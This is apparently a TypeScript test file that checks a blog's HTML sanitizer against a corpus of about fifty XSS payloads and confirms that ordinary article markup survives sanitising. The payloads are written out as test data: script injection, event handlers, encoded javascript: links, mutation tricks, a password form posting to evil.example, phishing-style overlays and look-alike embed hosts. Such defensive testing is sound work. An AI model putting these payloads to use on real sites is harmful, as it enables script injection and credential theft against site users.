import { isAllowedEmbed, sanitizePostHtml } from '@/lib/blog/sanitize';

// Runs in jsdom: the sanitized HTML is parsed by a real HTML parser and every element and attribute is
// checked, so a payload that only looks harmless as a string cannot slip through.

const FORBIDDEN_TAGS = new Set([
  'script', 'style', 'svg', 'math', 'object', 'embed', 'form', 'meta', 'base', 'link', 'noscript', 'details',
  'video', 'audio', 'source', 'button', 'textarea', 'select', 'template', 'frame', 'frameset', 'applet', 'marquee',
]);
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'cite', 'data', 'poster', 'background']);

function problemsOf(html: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const problems: string[] = [];
  for (const element of Array.from(template.content.querySelectorAll('*'))) {
    const tag = element.localName;
    if (FORBIDDEN_TAGS.has(tag)) problems.push(`<${tag}> element`);
    if (tag === 'iframe' && !isAllowedEmbed(element.getAttribute('src') ?? undefined)) problems.push('iframe not from YouTube /embed/');
    if (tag === 'input' && element.getAttribute('type') !== 'checkbox') problems.push('input that is not a checkbox');
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.trim().toLowerCase();
      if (name.startsWith('on')) problems.push(`${name} handler`);
      if (['style', 'srcdoc', 'srcset', 'http-equiv'].includes(name)) problems.push(`${name} attribute`);
      if (URL_ATTRIBUTES.has(name)) {
        if (value.startsWith('//') || value.startsWith('\\')) problems.push(`protocol-relative ${name}`);
        const scheme = /^([a-z][a-z0-9+.-]*):/.exec(value.replace(/[\u0000-\u0020]/g, ''));
        if (scheme && !['http', 'https', 'mailto', 'tel'].includes(scheme[1]!)) problems.push(`${scheme[1]}: ${name}`);
      }
      if (name === 'class' && /\b(fixed|absolute|inset-0|z-50|hidden)\b/.test(value)) problems.push('layout class');
      if (name === 'target' && value === '_blank' && !/noopener/.test(element.getAttribute('rel') ?? '')) problems.push('target without noopener');
    }
  }
  return problems;
}

const XSS_CORPUS: Array<[string, string]> = [
  ['script tag', '<script>alert(1)</script><p>after</p>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['nested script split', '<scr<script>ipt>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, odd spacing', '<img src="x" alt="x" onerror  =  "alert(1)" / >'],
  ['svg onload', '<svg onload=alert(1)><circle r=5></circle></svg>'],
  ['svg link', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['math link', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['javascript: href', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['javascript: decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['javascript: hex entities and &colon;', '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>'],
  ['javascript: leading whitespace', '<a href="  \n javascript:alert(1)">x</a>'],
  ['javascript: tab inside', '<a href="java\tscript:alert(1)">x</a>'],
  ['javascript: encoded tab inside', '<a href="java&#x09;script:alert(1)">x</a>'],
  ['javascript: control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data:text/html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: image src', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['srcset with javascript:', '<img src="https://images.example/a.png" srcset="javascript:alert(1) 1x">'],
  ['iframe from another host', '<iframe src="https://evil.example.com/embed/x"></iframe>'],
  ['iframe from a look-alike host', '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>'],
  ['iframe with credentials', '<iframe src="https://user:pw@www.youtube.com/embed/x"></iframe>'],
  ['iframe javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe protocol-relative', '<iframe src="//www.youtube.com/embed/x"></iframe>'],
  ['iframe over http', '<iframe src="http://www.youtube.com/embed/x"></iframe>'],
  ['iframe of a watch page', '<iframe src="https://www.youtube.com/watch?v=x"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['protocol-relative img', '<img src="//evil.example/x.png">'],
  ['protocol-relative link', '<a href="//evil.example">x</a>'],
  ['backslash protocol-relative link', '<a href="\\\\evil.example">x</a>'],
  ['style url()', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['style expression()', '<p style="width: expression(alert(1))">x</p>'],
  ['style element', '<style>body{display:none}</style><p>x</p>'],
  ['form action', '<form action="https://evil.example"><input type="password" name="p"><button>Go</button></form>'],
  ['input with focus handler', '<input type="text" autofocus onfocus="alert(1)">'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['object', '<object data="https://evil.example/x.swf"><param name="a" value="b"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['base href', '<base href="https://evil.example/"><a href="/page">x</a>'],
  ['stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['anchor event handler', '<a href="https://example.com" onmouseover="alert(1)">x</a>'],
  ['tabnabbing', '<a href="https://evil.example" target="_blank" rel="opener">x</a>'],
  ['overlay with site classes', '<p class="fixed inset-0 z-50">Your session expired</p>'],
  ['id clobbering', '<a id="__next" href="#">x</a><img id="hero" src="/a.png">'],
  ['comment trick', '<!--><img src=x onerror=alert(1)>-->'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
];

describe('sanitizePostHtml against an XSS corpus', () => {
  it(`has at least 20 payloads (${XSS_CORPUS.length})`, () => {
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(20);
  });

  it.each(XSS_CORPUS)('%s', (_name, payload) => {
    const clean = sanitizePostHtml(payload);
    expect(problemsOf(clean)).toEqual([]);
    expect(clean).not.toMatch(/<script/i);
    expect(clean).not.toMatch(/javascript:/i);
  });

  // Guards the checker itself: unsanitized, every payload but the id one is flagged.
  it.each(XSS_CORPUS.filter(([name]) => name !== 'id clobbering'))('the checker flags raw "%s"', (_name, payload) => {
    expect(problemsOf(payload).length + (/<script/i.test(payload) ? 1 : 0)).toBeGreaterThan(0);
  });

  it('keeps no id that could clobber the page', () => {
    const clean = sanitizePostHtml('<a id="__next" href="#">x</a>');
    expect(clean).toContain('id="user-content-__next"');
  });
});

describe('sanitizePostHtml keeps article content', () => {
  it.each([
    ['headings and text', '<h2>Title</h2><p>Some <strong>bold</strong> and <em>em</em>.</p>', '<h2>Title</h2><p>Some <strong>bold</strong> and <em>em</em>.</p>'],
    ['lists', '<ul><li>a</li></ul><ol start="3"><li>b</li></ol>', '<ul><li>a</li></ul><ol start="3"><li>b</li></ol>'],
    ['blockquote', '<blockquote><p>Quote</p></blockquote>', '<blockquote><p>Quote</p></blockquote>'],
    ['code block with language', '<pre><code class="language-ts">const a = 1;</code></pre>', '<pre tabindex="0"><code class="language-ts">const a = 1;</code></pre>'],
    ['highlighting spans', '<code><span class="hljs-keyword">const</span></code>', '<code><span class="hljs-keyword">const</span></code>'],
    ['table with alignment', '<table><thead><tr><th align="left">A</th></tr></thead><tbody><tr><td align="right">1</td></tr></tbody></table>', '<table tabindex="0"><thead><tr><th align="left">A</th></tr></thead><tbody><tr><td align="right">1</td></tr></tbody></table>'],
    ['figure', '<figure><img src="/blog/a.svg" alt="A"><figcaption>Caption</figcaption></figure>', '<figure><img src="/blog/a.svg" alt="A" loading="lazy" decoding="async" /><figcaption>Caption</figcaption></figure>'],
    ['hr and br', '<p>a<br>b</p><hr>', '<p>a<br />b</p><hr />'],
    ['internal link without target', '<a href="/insight/page/1">All posts</a>', '<a href="/insight/page/1">All posts</a>'],
    ['mailto link', '<a href="mailto:hello@example.com">Mail</a>', '<a href="mailto:hello@example.com">Mail</a>'],
    ['scrollable blocks keep one tab stop, whatever the post says', '<pre tabindex="-1">x</pre><table tabindex="5"></table>', '<pre tabindex="0">x</pre><table tabindex="0"></table>'],
    ['task list checkbox', '<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" checked> Done</li></ul>', '<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" disabled checked /> Done</li></ul>'],
  ])('%s', (_name, input, output) => {
    expect(sanitizePostHtml(input)).toBe(output);
  });

  it('writes characters above U+00FF as references the browser reads back as the same text', () => {
    const input = '<p>caf\u00e9 \u2014 \u201cquoted\u201d \u{1F680}<img src="/blog/a.svg" alt="It\u2019s \u2192"></p>';
    const clean = sanitizePostHtml(input);
    expect(clean).toBe(
      '<p>caf\u00e9 &#x2014; &#x201c;quoted&#x201d; &#x1f680;<img src="/blog/a.svg" alt="It&#x2019;s &#x2192;" loading="lazy" decoding="async" /></p>',
    );
    const template = document.createElement('template');
    template.innerHTML = clean;
    const paragraph = template.content.querySelector('p')!;
    expect(paragraph.textContent).toBe('caf\u00e9 \u2014 \u201cquoted\u201d \u{1F680}');
    expect(paragraph.querySelector('img')!.getAttribute('alt')).toBe('It\u2019s \u2192');
  });

  it('opens external links in a new tab without an opener', () => {
    expect(sanitizePostHtml('<a href="https://web.dev/articles/vitals" target="_self">web.dev</a>')).toBe(
      '<a href="https://web.dev/articles/vitals" target="_blank" rel="noopener noreferrer">web.dev</a>',
    );
  });

  it('lazy-loads images and keeps their size', () => {
    expect(sanitizePostHtml('<img src="https://images.example/a.png" alt="A" width="640" height="360">')).toBe(
      '<img src="https://images.example/a.png" alt="A" width="640" height="360" loading="lazy" decoding="async" />',
    );
  });

  it.each([
    'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ',
    'https://www.youtube.com/embed/dQw4w9WgXcQ?start=30',
    'https://youtube.com/embed/dQw4w9WgXcQ',
  ])('keeps the YouTube embed %s, lazy-loaded', (src) => {
    const clean = sanitizePostHtml(`<iframe src="${src}" width="560" height="315" allowfullscreen title="Talk"></iframe>`);
    const template = document.createElement('template');
    template.innerHTML = clean;
    const iframe = template.content.querySelector('iframe');
    expect(iframe?.getAttribute('src')).toBe(src);
    expect(iframe?.getAttribute('loading')).toBe('lazy');
    expect(iframe?.getAttribute('title')).toBe('Talk');
    expect(iframe?.hasAttribute('allowfullscreen')).toBe(true);
  });

  it('gives an untitled embed an accessible title', () => {
    expect(sanitizePostHtml('<iframe src="https://www.youtube.com/embed/x"></iframe>')).toContain('title="Embedded video"');
  });
});

describe('sanitizePostHtml with an image host (upstream posts)', () => {
  const imageHost = 'https://images.example/media';
  it.each([
    ['uploads/a.png', 'https://images.example/media/uploads/a.png'],
    ['/uploads/b.png', 'https://images.example/media/uploads/b.png'],
    ['https://cdn.example/c.png', 'https://cdn.example/c.png'],
  ])('resolves the image %s', (src, resolved) => {
    expect(sanitizePostHtml(`<img src="${src}" alt="x">`, { imageHost })).toBe(
      `<img src="${resolved}" alt="x" loading="lazy" decoding="async" />`,
    );
  });

  it.each(['javascript:alert(1)', '//evil.example/x.png', 'data:image/png;base64,AAAA'])('still drops the image source %s', (src) => {
    expect(sanitizePostHtml(`<img src="${src}" alt="x">`, { imageHost })).toBe('<img alt="x" loading="lazy" decoding="async" />');
  });

  it('leaves image paths alone without an image host', () => {
    expect(sanitizePostHtml('<img src="uploads/a.png">')).toBe('<img src="uploads/a.png" loading="lazy" decoding="async" />');
  });
});
